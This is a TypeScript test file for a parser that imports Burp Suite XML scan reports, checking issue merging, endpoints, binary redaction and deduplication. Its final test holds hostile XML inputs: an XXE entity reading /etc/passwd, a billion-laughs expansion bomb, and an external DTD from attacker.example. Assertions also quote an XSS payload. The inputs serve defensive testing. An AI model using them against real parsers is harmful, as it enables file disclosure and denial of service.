import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { ParseError } from '../parser.ts';
import { burpParser } from './burp.ts';

const fixture = (name: string) => readFileSync(new URL(`./fixtures/burp/${name}`, import.meta.url));
const parse = async (input: Buffer | string) =>
  (await burpParser.parse(Buffer.from(input), { scanType: 'Burp Scan' })).findings;

test('burp: issues of one type merge into one finding (DefectDojo dupe key = type)', async () => {
  const findings = await parse(fixture('report.xml'));
  assert.equal(findings.length, 2);
  const [xss, frame] = findings;
  assert.equal(xss.title, 'Cross-site scripting (reflected)');
  assert.equal(xss.severity, 'High');
  assert.equal(xss.cwe, 79);
  assert.equal(xss.vulnIdFromTool, '2097920');
  assert.equal(xss.uniqueIdFromTool, '5271092417832139776');
  assert.equal(xss.occurrences, 2);
  assert.deepEqual(xss.endpoints, [
    { host: 'shop.example.com', protocol: 'https', port: 443, url: 'https://shop.example.com' },
  ]);
  // the later issue's description is prepended, as DefectDojo does
  assert.match(
    xss.description ?? '',
    /^URL: https:\/\/shop\.example\.com\/account\/profile[\s\S]*URL: https:\/\/shop\.example\.com\/search/,
  );
  assert.match(xss.description ?? '', /payload <script>alert\(1\)<\/script> was submitted/);
  assert.match(xss.mitigation ?? '', /\* Input should be validated/);
  assert.match(xss.references ?? '', /\[Cross-site scripting\]\(https:\/\/portswigger\.net/);
  assert.match(xss.evidence ?? '', /^GET \/search\?q=%3cscript%3e.*HTTP\/1\.1\r\nHost: shop\.example\.com/);
  assert.match(xss.evidence ?? '', /<!DOCTYPE html><html><body>Results for <script>/);
  assert.equal(frame.severity, 'Info');
  assert.equal(frame.cwe, 693);
  assert.deepEqual(frame.endpoints?.[0], {
    host: 'legacy.example.com',
    protocol: 'http',
    port: 8080,
    url: 'http://legacy.example.com:8080',
  });
  assert.match(
    frame.evidence ?? '',
    /<title>Legacy<\/title>/,
    'non-base64 CDATA response containing a DOCTYPE is plain text',
  );
});

test('burp: binary base64 response bodies are redacted after the headers', async () => {
  const { decodeHttpMessage } = await import('./burp.ts');
  const body = Buffer.concat([
    Buffer.from('HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n'),
    Buffer.from([0x89, 0x50, 0xff, 0xfe, 0x00]),
  ]);
  const node = { '#text': body.toString('base64'), '@_base64': 'true' };
  assert.equal(decodeHttpMessage(node), 'HTTP/1.1 200 OK\r\nContent-Type: image/png\r\n\r\n<Binary Redacted Data>');
  assert.equal(decodeHttpMessage({ '#text': 'GET / HTTP/1.1', '@_base64': 'false' }), 'GET / HTTP/1.1');
});

test('burp: empty export and dedup config', async () => {
  assert.deepEqual(await parse(fixture('empty.xml')), []);
  assert.deepEqual(await parse('<issues burpVersion="2024.1"/>'), []);
  assert.deepEqual(burpParser.dedup, {
    algorithm: 'legacy',
    hashFields: ['title', 'cwe', 'line', 'filePath', 'description'],
  });
});

test('burp: bad input throws ParseError (truncated, wrong root, missing fields, XXE, billion laughs)', async () => {
  await assert.rejects(() => parse(fixture('report.xml').toString().slice(0, 3000)), ParseError);
  await assert.rejects(() => parse('<OWASPZAPReport/>'), /Not a Burp XML report/);
  await assert.rejects(
    () => parse('<issues><issue><name>x</name></issue></issues>'),
    /issue\[1\] lacks name, type, host or severity/,
  );
  const xxe =
    '<?xml version="1.0"?>\n<!DOCTYPE issues [<!ELEMENT issues ANY><!ENTITY xxe SYSTEM ' +
    '"file:///etc/passwd">]>\n<issues>&xxe;</issues>';
  await assert.rejects(() => parse(xxe), /declares entities/);
  const lol =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 ' +
    '"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><issues>&lol2;</issues>';
  await assert.rejects(() => parse(lol), ParseError);
  await assert.rejects(
    () => parse('<!DOCTYPE issues SYSTEM "http://attacker.example/burp.dtd"><issues/>'),
    /external DTD/,
  );
  await assert.rejects(() => parse('<!DOCTYPE issues [<!ELEMENT issues ANY>'), /unterminated DOCTYPE/);
  await assert.rejects(() => parse(''), ParseError);
});
